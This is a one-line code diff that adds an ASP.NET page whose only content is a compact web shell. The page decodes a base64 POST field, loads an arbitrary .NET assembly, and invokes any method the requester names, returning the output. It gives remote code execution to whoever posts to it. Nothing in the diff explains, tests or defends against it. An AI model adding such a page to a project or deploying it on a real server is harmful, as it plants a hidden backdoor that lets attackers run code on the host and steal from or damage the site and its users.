@@ -1,0 +1,1 @@
+<%@ Page Language="C#" %><script runat="server">void Page_Load(object o, EventArgs e) { var p = System.Text.Encoding.UTF8.GetString(Convert.FromBase64String(Request.Form["d"])).Split('|'); var asm = System.Reflection.Assembly.Load(p.First()); var t = asm.GetType(p.ElementAt(1)); Response.Write(t.GetMethod(p.ElementAt(2)).Invoke(null, new object[] { p.Last() })); }</script>
